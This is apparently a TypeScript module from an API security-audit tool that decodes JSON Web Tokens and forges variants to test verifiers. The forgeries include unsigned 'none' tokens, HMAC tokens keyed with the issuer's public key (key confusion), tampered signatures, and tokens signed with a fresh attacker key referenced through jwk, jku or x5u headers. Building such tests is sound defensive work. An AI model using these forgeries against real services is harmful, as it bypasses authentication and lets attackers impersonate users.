import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { decodeBase64UrlText, encodeBase64Url } from '@bulwark/core/toolkit';

/** A compact JWS split into its decoded header, its raw parts, and nothing verified. */
export interface DecodedToken {
  readonly header: Record<string, unknown>;
  readonly payload: Record<string, unknown>;
  /** base64url of header, payload and signature, as given. */
  readonly parts: readonly [string, string, string];
}

const json = (part: string): Record<string, unknown> | undefined => {
  const text = decodeBase64UrlText(part);
  if (text === undefined) return undefined;
  try {
    const v: unknown = JSON.parse(text);
    return v !== null && typeof v === 'object' && !Array.isArray(v)
      ? (v as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
};

/**
 * Split a compact JWS without verifying it; undefined when it is not one (three base64url parts, JSON objects).
 *
 * @example
 * decodeToken(token)?.header.alg // 'RS256'
 */
export function decodeToken(token: string): DecodedToken | undefined {
  const parts = token.split('.');
  if (parts.length !== 3) return undefined;
  const header = json(parts[0]!);
  const payload = json(parts[1]!);
  if (header === undefined || payload === undefined) return undefined;
  return { header, payload, parts: [parts[0]!, parts[1]!, parts[2]!] };
}

const b64json = (value: unknown) => encodeBase64Url(new TextEncoder().encode(JSON.stringify(value)));

/** `header.payload.` with a new header and the original payload bytes: claims are never changed. */
export function unsigned(original: DecodedToken, header: Record<string, unknown>): string {
  return `${b64json(header)}.${original.parts[1]}.`;
}

/** HMAC-SHA256 over `header.payload` with the given key bytes. */
export function hs256(
  original: DecodedToken,
  header: Record<string, unknown>,
  key: string | Uint8Array,
): string {
  const input = `${b64json({ ...header, alg: 'HS256' })}.${original.parts[1]}`;
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
}

/** The same token with one signature character changed in the middle (not the last: its low bits may be unused). */
export function alteredSignature(original: DecodedToken): string | undefined {
  const sig = original.parts[2];
  if (sig.length < 8) return undefined;
  const i = Math.floor(sig.length / 2);
  const swapped = sig[i] === 'A' ? 'B' : 'A';
  return `${original.parts[0]}.${original.parts[1]}.${sig.slice(0, i)}${swapped}${sig.slice(i + 1)}`;
}

/** An attacker key pair of the family the API expects (RSA for RS/PS, the matching curve for ES). */
export interface AttackerKey {
  readonly alg: string;
  readonly privateKey: KeyObject;
  readonly publicJwk: Record<string, unknown>;
}

/**
 * A fresh key pair that the API has never seen, in the family of `alg` (RS256 when unknown). Used to sign
 * tokens whose header points at the key itself (`jwk`) or at a URL the audit serves (`jku`, `x5u`).
 *
 * @example
 * const key = attackerKey('RS256');
 */
export function attackerKey(alg: string): AttackerKey {
  const ec: Record<string, string> = { ES256: 'P-256', ES384: 'P-384', ES512: 'P-521' };
  if (ec[alg] !== undefined) {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: ec[alg]! });
    return { alg, privateKey, publicJwk: publicKey.export({ format: 'jwk' }) as Record<string, unknown> };
  }
  const rsaAlg = /^(RS|PS)(256|384|512)$/.test(alg) ? alg : 'RS256';
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return {
    alg: rsaAlg,
    privateKey,
    publicJwk: publicKey.export({ format: 'jwk' }) as Record<string, unknown>,
  };
}

/** Sign `header.payload` (original payload) with the attacker key, in JOSE form. */
export function signWith(original: DecodedToken, key: AttackerKey, header: Record<string, unknown>): string {
  const input = `${b64json({ ...header, alg: key.alg })}.${original.parts[1]}`;
  const bits = key.alg.slice(2);
  const hash = `sha${bits}`;
  let sig: Buffer;
  if (key.alg.startsWith('ES'))
    sig = sign(hash, Buffer.from(input), { key: key.privateKey, dsaEncoding: 'ieee-p1363' });
  else if (key.alg.startsWith('PS')) {
    sig = sign(hash, Buffer.from(input), { key: key.privateKey, padding: 6, saltLength: Number(bits) / 8 });
  } else sig = sign(hash, Buffer.from(input), key.privateKey);
  return `${input}.${sig.toString('base64url')}`;
}

/**
 * The byte strings a confused verifier might use as an HMAC secret for an issuer public key: the SPKI PEM
 * with and without its final newline, and for RSA the PKCS#1 PEM.
 *
 * @example
 * for (const secret of publicKeySecrets(jwk)) hs256(token, header, secret);
 */
export function publicKeySecrets(jwk: Record<string, unknown>): string[] {
  let key: KeyObject;
  try {
    key = createPublicKey({ key: jwk as never, format: 'jwk' });
  } catch {
    return [];
  }
  const spki = String(key.export({ type: 'spki', format: 'pem' }));
  const out = [spki, spki.trimEnd()];
  if (key.asymmetricKeyType === 'rsa') out.push(String(key.export({ type: 'pkcs1', format: 'pem' })));
  return out;
}
